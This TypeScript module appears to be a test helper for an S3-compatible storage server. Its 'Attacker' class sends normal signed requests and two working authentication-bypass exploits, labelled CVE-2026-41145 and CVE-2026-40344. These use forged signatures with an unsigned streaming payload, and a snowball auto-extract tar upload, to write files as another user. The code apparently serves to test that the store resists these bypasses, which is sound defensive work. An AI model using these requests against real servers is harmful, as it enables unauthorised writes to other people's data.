import { request } from "node:https";
import type { StoreKeys } from "../../../components/storage/scripts/credentials.ts";
import { signedHeaders } from "../../../components/storage/scripts/s3-signature.ts";

const REGION = "us-east-1";
const UNSIGNED = "STREAMING-UNSIGNED-PAYLOAD-TRAILER";
const FORGED = "0".repeat(64);

export interface Reply {
  readonly status: number;
  /** S3's code of an error; empty for a success. */
  readonly code: string;
  readonly body: string;
}

type Texts = Readonly<Record<string, string>>;

/** Requests to a store by somebody who reached its port, with what he knows of its users. */
export class Attacker {
  /** @param authority certificate of the authority that signed the server's; PEM. */
  constructor(
    private readonly url: string,
    private readonly authority: string,
  ) {}

  /** Signed as it should be. */
  signed(method: string, path: string, keys: StoreKeys, query: Texts = {}, body = ""): Promise<Reply> {
    const url = this.address(path, query);
    const headers = { "content-length": String(Buffer.byteLength(body)) };
    const signed = signedHeaders(
      { method, url, headers, body: Buffer.from(body) },
      { ...keys, region: REGION },
      new Date(),
    );
    return this.send(method, url, signed, body);
  }

  /** Without any signature. */
  anonymous(method: string, path: string, query: Texts = {}, headers: Texts = {}, body = ""): Promise<Reply> {
    return this.send(method, this.address(path, query), headers, body);
  }

  /**
   * CVE-2026-41145: a stream that says that it is not signed, with the name of a key in the query. Affected servers check
   * a signature only where there is an Authorization header, and believe the name all the same.
   */
  unsignedStream(path: string, accessKeyId: string, content: string): Promise<Reply> {
    const query = {
      "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
      "X-Amz-Credential": credential(accessKeyId),
      "X-Amz-Date": time(),
      "X-Amz-Expires": "600",
      "X-Amz-SignedHeaders": "host",
      "X-Amz-Signature": FORGED,
    };
    const body = `${Buffer.byteLength(content).toString(16)}\r\n${content}\r\n0\r\n\r\n\r\n`;
    const headers = {
      "content-encoding": "aws-chunked",
      "x-amz-content-sha256": UNSIGNED,
      "x-amz-decoded-content-length": String(Buffer.byteLength(content)),
    };
    return this.anonymous("PUT", path, query, headers, body);
  }

  /**
   * CVE-2026-40344: an archive that the server is to unpack, under a made-up signature. Affected servers have no check
   * for this kind of request at all.
   */
  unsignedArchive(bucket: string, accessKeyId: string, files: Texts): Promise<Reply> {
    const body = tar(files);
    const headers = {
      authorization:
        `AWS4-HMAC-SHA256 Credential=${credential(accessKeyId)},` +
        `SignedHeaders=host;x-amz-content-sha256;x-amz-date,Signature=${FORGED}`,
      "x-amz-content-sha256": UNSIGNED,
      "x-amz-date": time(),
      "x-amz-decoded-content-length": String(body.length),
      "x-amz-meta-snowball-auto-extract": "true",
    };
    return this.anonymous("PUT", `/${bucket}/archive.tar`, {}, headers, body);
  }

  private address(path: string, query: Texts): URL {
    return new URL(`${this.url}${path}?${new URLSearchParams(query)}`);
  }

  private send(method: string, url: URL, headers: Texts, body: string): Promise<Reply> {
    return new Promise((resolve, reject) => {
      const length = { "content-length": String(Buffer.byteLength(body)) };
      const outgoing = request(url, { method, headers: { ...length, ...headers }, ca: this.authority }, (response) => {
        const chunks: Buffer[] = [];
        response.on("data", (chunk: Buffer) => chunks.push(chunk));
        response.once("error", reject);
        response.once("end", () => {
          const text = String(Buffer.concat(chunks));
          resolve({ status: response.statusCode ?? 0, code: /<Code>(.*?)<\/Code>/.exec(text)?.[1] ?? "", body: text });
        });
      });
      outgoing.once("error", reject);
      outgoing.end(body);
    });
  }
}

function time(): string {
  return new Date().toISOString().replace(/[-:]|\.\d{3}/g, "");
}

function credential(accessKeyId: string): string {
  return `${accessKeyId}/${time().slice(0, 8)}/${REGION}/s3/aws4_request`;
}

/** A POSIX archive of small text files. */
function tar(files: Texts): string {
  const entries = Object.entries(files).map(([path, content]) => {
    const field = (text: string, length: number) => text.padEnd(length, "\0");
    const octal = (value: number, length: number) => `${value.toString(8).padStart(length - 1, "0")}\0`;
    const before =
      field(path, 100) + octal(0o644, 8) + octal(0, 8) + octal(0, 8) + octal(content.length, 12) + octal(1, 12);
    const after = field(`0${"\0".repeat(100)}ustar\x0000`, 357 - 1);
    const sum = [...`${before}${" ".repeat(8)}${after}`].reduce(
      (total, character) => total + character.charCodeAt(0),
      0,
    );
    return (
      field(`${before}${sum.toString(8).padStart(6, "0")}\0 ${after}`, 512) +
      field(content, Math.ceil(content.length / 512) * 512)
    );
  });
  return `${entries.join("")}${"\0".repeat(1024)}`;
}
